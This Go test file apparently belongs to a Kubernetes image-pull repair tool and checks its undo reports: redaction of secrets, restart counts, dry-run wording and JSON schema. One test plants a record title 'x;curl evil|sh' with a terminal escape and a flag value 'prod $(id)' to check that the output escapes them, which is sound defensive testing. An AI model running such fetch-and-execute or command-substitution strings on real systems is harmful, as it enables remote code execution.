// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package report_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/pullmedic/pullmedic/api/v1alpha1"
	"github.com/pullmedic/pullmedic/evidence"
	"github.com/pullmedic/pullmedic/internal/mend"
	"github.com/pullmedic/pullmedic/internal/remedy"
	"github.com/pullmedic/pullmedic/internal/report"
	"github.com/pullmedic/pullmedic/internal/report/schematest"
)

// someUndo has a change in each standing.
func someUndo() mend.Undo {
	var r mend.Record
	r.ID, r.Namespace, r.State = "20261121-034102-k3x7q2m4n5pa", "shop", mend.State(mend.Mended)
	r.Time, r.Target, r.Cause, r.Remedy = ago(9*time.Minute), "deployment/api", "CredentialsInvalid", "secret-entry"
	r.Title, r.Evicts = "Rewrite the entry of registry.example in secret hub", 2
	object := func(kind, name string) remedy.Object { return remedy.Object{Kind: kind, Namespace: "shop", Name: name} }
	return mend.Undo{Record: r, Backs: []mend.Back{
		{Object: object("Deployment", "api"), Standing: mend.Stands, Reach: mend.Reach{Restarts: 2, Wanted: 3, Pace: "25 % at a time"}, Edits: []remedy.Edit{
			{Path: "/spec/template/spec/containers/0/name", Old: "app", New: "app"},
			{Path: "/spec/template/spec/containers/0/image", Old: "registry.example/acme/api:1.27.4", New: "registry.example/acme/a-team-with-a-long-name/api:1.27.44", Label: "container app: image"},
			{Path: "/spec/template/spec/imagePullSecrets", Old: []any{map[string]any{"name": "hub-2"}}},
		}},
		{Object: object("Secret", "hub"), Standing: mend.Stands, Edits: []remedy.Edit{{Path: "/data/.dockerconfigjson", Old: "canary", New: "canary-2", Hidden: true}}},
		{Object: object("Secret", "hub-2"), Standing: mend.Stands, Removes: true},
		{Object: object("Secret", "hub-3"), Standing: mend.NotOurs, Removes: true},
		{Object: object("ServiceAccount", "app"), Standing: mend.AsBefore},
		{Object: object("CronJob", "nightly"), Standing: mend.Gone},
	}}
}

func TestUndoText(t *testing.T) {
	u := someUndo()
	doc := report.NewUndo(now(), u)
	var out bytes.Buffer
	check := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	check(report.UndoText(&out, doc, report.Style{}))
	doc.Outcome = v1alpha1.UndoUndone
	check(report.UndoneText(&out, doc, report.Style{}))
	u.Backs[0].Reach = mend.Reach{}
	u.Backs = append(u.Backs, mend.Back{Object: u.Backs[0].Object, Standing: mend.Altered, Conflicts: []mend.Conflict{
		{Path: "/spec/template/spec/containers/0/image", Before: "acme/api:1.27.44", Set: "acme/api:1.27.4", Now: "acme/api:1.28.0"},
		{Path: "/spec/template/spec/imagePullSecrets", Before: nil, Set: []any{map[string]any{"name": "hub-2"}}, Now: nil},
		{Path: "/spec/template/spec/containers/0/env/0/value", Before: "canary", Set: "canary-2", Now: "canary-3"},
		{Path: "/metadata/annotations/x~1y", Before: "canary", Set: "canary-2", Now: "canary-3"},
	}}, mend.Back{Object: u.Backs[1].Object, Standing: mend.Altered, Conflicts: []mend.Conflict{{Path: "/data/.dockerconfigjson", Before: "canary", Set: "canary-2", Now: "canary-3"}}}, mend.Back{Object: u.Backs[1].Object, Standing: mend.Lost})
	doc = report.NewUndo(now(), u)
	doc.Outcome, doc.Why = v1alpha1.UndoRefused, u.Blocked().Error()
	out.WriteString("\n")
	check(report.UndoText(&out, doc, report.Style{}))
	check(report.UndoneText(&out, doc, report.Style{}))
	golden(t, "undo.txt", out.Bytes())
	if strings.Contains(out.String(), "canary") {
		t.Error("the text shows a secret")
	}

	out.Reset()
	check(report.Encode(&out, report.JSON, doc))
	schematest.Check(t, out.Bytes())
	if strings.Contains(out.String(), "canary") {
		t.Error("the document shows a secret")
	}
	r, killed := u.Record, u.Record
	killed.State, killed.Title = mend.Written, "x;curl evil|sh\x1b[2J"
	list := report.NewUndoList(now(), []mend.Record{r, killed}, []error{errors.New("configmap x in namespace shop is no record that fix wrote")}, true)
	out.Reset()
	check(report.Encode(&out, report.JSON, list))
	schematest.Check(t, out.Bytes())
	out.Reset()
	check(report.UndoListText(&out, list, report.Style{Flags: []string{"--probe", "none", "--context", "prod $(id)", "--allow-loopback"}, Connect: []string{"--context", "prod $(id)"}}))
	check(report.UndoListText(&out, report.NewUndoList(now(), nil, nil, false), report.Style{}))
	golden(t, "undo-list.txt", out.Bytes())
}

func TestUndoSaysOnePodAsOne(t *testing.T) {
	u := someUndo()
	u.Record.Evicts = 1
	if got := report.NewUndo(now(), u).Irrevocable; len(got) != 1 || got[0] != "1 pod that fix evicted: its owner has made a new one" {
		t.Errorf("got %q", got)
	}
}

func TestUndoSaysWhichRunningPodsItMeets(t *testing.T) {
	gap := evidence.Gap{Check: evidence.CheckPods, Subject: evidence.Subject{Kind: evidence.SubjectWorkload, Name: "api"}, Why: "you may not list pods in namespace shop", Needs: "list pods"}
	both := func(r ...mend.Reach) mend.Undo {
		u := someUndo()
		u.Backs = u.Backs[:2]
		for i := range u.Backs {
			u.Backs[i].Reach = mend.Reach{}
		}
		for i := range r {
			u.Backs[i].Reach = r[i]
		}
		return u
	}
	unseen := both(mend.Reach{Restarts: 1, Wanted: 1})
	unseen.NotLookedAt = []evidence.Gap{gap}
	altered := both(mend.Reach{Restarts: 1, Wanted: 1})
	altered.Backs[1].Standing = mend.Altered
	gone := both()
	gone.Backs[0].Standing, gone.Backs[1].Standing = mend.Gone, mend.AsBefore
	named := both()
	named.Backs = append(named.Backs, someUndo().Backs[2])
	named.Backs[2].Users.Pods = 7
	used := both()
	used.Backs = append(used.Backs, named.Backs[2])
	used.Backs[2].Standing, used.Backs[2].Users.Others = mend.InUse, []string{"deployment/web", "serviceaccount/builder"}
	const may = " may fail so again"
	for name, c := range map[string]struct {
		undo mend.Undo
		want []string
		not  string
	}{
		"nobody": {both(), []string{"Reach restarts no healthy pod", "fix: pods that are made from now on" + may}, "what restarts"},
		"a rollout": {both(mend.Reach{Restarts: 2, Wanted: 3, Pace: "1 at a time"}),
			[]string{"Reach restarts 2 healthy pods of 3, by its rollout 1 at a time", "fix: what restarts and pods that are made from now on" + may}, "no healthy pod"},
		"a pod in its place": {both(mend.Reach{Restarts: 1, Wanted: 1, Containers: []string{"app"}, Pulls: true}),
			[]string{"Reach restarts its container app, which runs now, and it has to pull again with what was there before"}, "no healthy pod"},
		"a pod whose node may have the image": {both(mend.Reach{Restarts: 1, Wanted: 1, Containers: []string{"app", "side"}}),
			[]string{"Reach restarts its containers app, side, which run now, and they may have to pull again with what was there before"}, "no healthy pod"},
		"two": {both(mend.Reach{Restarts: 2, Wanted: 3}, mend.Reach{Restarts: 1, Wanted: 1}),
			[]string{"Reach deployment/api: restarts 2 healthy pods of 3", "Reach secret/hub: restarts 1 healthy pod of 1"}, "no healthy pod"},
		"what could not be read":         {unseen, []string{"Reach restarts 1 healthy pod of 1", "Not seen you may not list pods in namespace shop"}, ""},
		"pods that name what it removes": {named, []string{"Reach restarts no healthy pod", "Reach secret/hub-2: 7 pods name it: they are not restarted, but pull without it from now on"}, "what restarts"},
		"others name what it removes":    {used, []string{"secret/hub-2 in namespace shop: others name it by now: deployment/web, serviceaccount/builder"}, "Reach"},
		"something stands in the way":    {altered, []string{"Risk"}, "Reach"},
		"nothing is left to do":          {gone, nil, "Reach"},
	} {
		t.Run(name, func(t *testing.T) {
			var out bytes.Buffer
			doc := report.NewUndo(now(), c.undo)
			if err := report.UndoText(&out, doc, report.Style{}); err != nil {
				t.Fatal(err)
			}
			text := strings.Join(strings.Fields(out.String()), " ") // where a line breaks is not the point
			for _, want := range c.want {
				if !strings.Contains(text, want) {
					t.Errorf("%q is not in\n%s", want, out.String())
				}
			}
			if c.not != "" && strings.Contains(text, c.not) {
				t.Errorf("%q is in\n%s", c.not, out.String())
			}
			out.Reset()
			if err := report.Encode(&out, report.JSON, doc); err != nil {
				t.Fatal(err)
			}
			schematest.Check(t, out.Bytes())
			if got := doc.Changes[0]; got.Restarts != c.undo.Backs[0].Reach.Restarts || (got.Restarts > 0) != (got.Reach != "") {
				t.Errorf("the document says %d, %q", got.Restarts, got.Reach)
			}
		})
	}
}

func TestAnUndoThatChangesNothingSaysSo(t *testing.T) {
	for dryRun, want := range map[string]string{
		"":       "\nNothing was changed.\n",
		"client": "\nDry run: nothing was tried and nothing was changed.\n",
		"server": "\nDry run: the API server would take every change; nothing was changed.\n",
	} {
		doc := report.NewUndo(now(), someUndo())
		doc.DryRun = dryRun
		var out bytes.Buffer
		if err := report.UndoneText(&out, doc, report.Style{}); err != nil || out.String() != want {
			t.Errorf("%s: %q, %v", dryRun, out.String(), err)
		}
	}
}

func TestAFixThatEndedBeforeItsFirstChangeIsSaidSo(t *testing.T) {
	u := someUndo()
	u.Record.State = mend.Preparing
	for i := range u.Backs {
		u.Backs[i].Standing = mend.AsBefore
	}
	doc := report.NewUndo(now(), u)
	doc.Outcome = v1alpha1.UndoUndone
	var out bytes.Buffer
	if err := errors.Join(report.UndoText(&out, doc, report.Style{}), report.UndoneText(&out, doc, report.Style{})); err != nil {
		t.Fatal(err)
	}
	text := strings.Join(strings.Fields(out.String()), " ")
	if !strings.Contains(text, "nothing was changed: it ended before its first change Undone: nothing was changed by the fix") || strings.Contains(text, "already as it was") || len(doc.Irrevocable) > 0 {
		t.Errorf("it says\n%s", out.String())
	}
	out.Reset()
	if err := report.Encode(&out, report.JSON, doc); err != nil {
		t.Fatal(err)
	}
	schematest.Check(t, out.Bytes())
}
